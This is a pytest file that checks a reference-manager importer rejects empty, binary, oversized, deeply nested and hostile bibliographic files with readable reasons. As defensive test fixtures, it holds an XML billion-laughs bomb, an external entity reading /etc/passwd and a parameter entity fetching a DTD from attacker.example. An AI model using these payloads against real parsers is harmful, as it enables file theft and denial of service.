"""Hostile, broken or absurd files are refused cleanly, with a reason a reviewer understands."""

from __future__ import annotations

import random

import pytest

from retroduce.sources.importers import ImporterFault, Limits

from .helpers import SMALL, failure, fixture_bytes

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE PubmedArticleSet [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>1</PMID><Article>
<ArticleTitle>&lol9;</ArticleTitle></Article></MedlineCitation></PubmedArticle></PubmedArticleSet>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<xml><records><record><titles><title>&secret;</title></titles></record></records></xml>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<xml><records><record><titles><title>x</title></titles></record></records></xml>
"""


@pytest.mark.parametrize(
    "data", [b"", b"   \n\r\n\t", b"\xef\xbb\xbf", b"\xff\xfe", b"\xef\xbb\xbf\n\n"]
)
def test_empty_files(data: bytes) -> None:
    error = failure("empty.ris", data)
    assert "empty" in error.reason
    assert error.file == "empty.ris"


def test_files_with_no_records() -> None:
    assert (
        "no references were found in this BibTeX file"
        in failure("c.bib", b"@comment{nothing here}\n@string{a = {b}}\n").reason
    )
    assert "no references" in failure("e.xml", b"<xml><records></records></xml>").reason
    assert "no references" in failure("p.xml", b"<PubmedArticleSet></PubmedArticleSet>").reason


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "PDF"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), ".xls"),
        (b"\x1f\x8b\x08\x00" + bytes(100), "gzip"),
        (b"\x89PNG\r\n\x1a\n" + bytes(100), "image"),
        (b"TY  - JOUR\n\x00\x00\x00\x01\x02binary\x00", "NUL"),
        (random.Random(7).randbytes(4096), "binary"),
    ],
)
def test_binary_files(data: bytes, words: str) -> None:
    error = failure("upload.ris", data)
    assert words in error.reason
    assert not isinstance(error, ImporterFault)


def test_html_page_saved_instead_of_the_export() -> None:
    error = failure("export.ris", b"<!DOCTYPE html>\n<html><body>Session expired</body></html>")
    assert "web page (HTML)" in error.reason


@pytest.mark.parametrize(
    ("name", "document"),
    [("bomb.xml", BILLION_LAUGHS), ("xxe.xml", EXTERNAL_ENTITY), ("pe.xml", PARAMETER_ENTITY)],
)
def test_xml_bombs_and_external_entities_are_refused(name: str, document: str) -> None:
    error = failure(name, document.encode())
    assert "XML bomb" in error.reason
    assert error.line is not None


def test_file_over_the_size_limit() -> None:
    data = fixture_bytes("scopus.ris") * 100
    error = failure("big.ris", data, limits=Limits(max_file_bytes=10_000))
    assert "over the limit of 9 KiB" in error.reason


def test_field_over_the_size_limit_names_its_line() -> None:
    text = "TY  - JOUR\nTI  - Fine\nAB  - " + "word " * 1000 + "\nER  - \n"
    error = failure("long.ris", text.encode(), limits=SMALL)
    assert error.line == 3
    assert "the field 'AB' of the record that starts on line 1 is longer than 2 KiB" in error.reason


def test_field_over_the_size_limit_in_other_formats() -> None:
    long = "x" * 3000
    assert (
        "longer than"
        in failure("l.csv", f"Title,Year\n{long},2000\n".encode(), limits=SMALL).reason
    )
    bib = f"@article{{a, title={{{long}}}}}".encode()
    assert "longer than" in failure("l.bib", bib, limits=SMALL).reason
    json_doc = f'[{{"title": "{long}"}}]'.encode()
    assert "longer than" in failure("l.json", json_doc, limits=SMALL).reason


@pytest.mark.parametrize(
    ("name", "one"),
    [
        ("many.ris", "TY  - JOUR\nTI  - T\nER  - \n"),
        ("many.nbib", "PMID- 1\nTI  - T\n\n"),
        ("many.bib", "@misc{k, title={T}}\n"),
        ("many.json", '{"title": "T"},'),
    ],
)
def test_absurd_record_counts(name: str, one: str) -> None:
    body = one * 60
    if name.endswith(".json"):
        body = "[" + body.rstrip(",") + "]"
    error = failure(name, body.encode(), limits=SMALL)
    assert "more than 50 records" in error.reason


def test_absurd_row_count_in_csv() -> None:
    text = "Title,Year\n" + "T,2000\n" * 60
    assert "more than 50 records" in failure("many.csv", text.encode(), limits=SMALL).reason


def test_deeply_nested_json_and_xml() -> None:
    error = failure("deep.json", b"[" * 100_000 + b"]" * 100_000)
    assert "nested" in error.reason
    deep = "<xml><records><record>" + "<a>" * 200 + "</a>" * 200 + "</record></records></xml>"
    error = failure("deep.xml", deep.encode())
    assert "nested more than 64 levels" in error.reason


def test_huge_json_number_is_refused_cleanly() -> None:
    error = failure("n.json", b'[{"title": "A", "volume": ' + b"9" * 5000 + b"}]")
    assert not isinstance(error, ImporterFault)
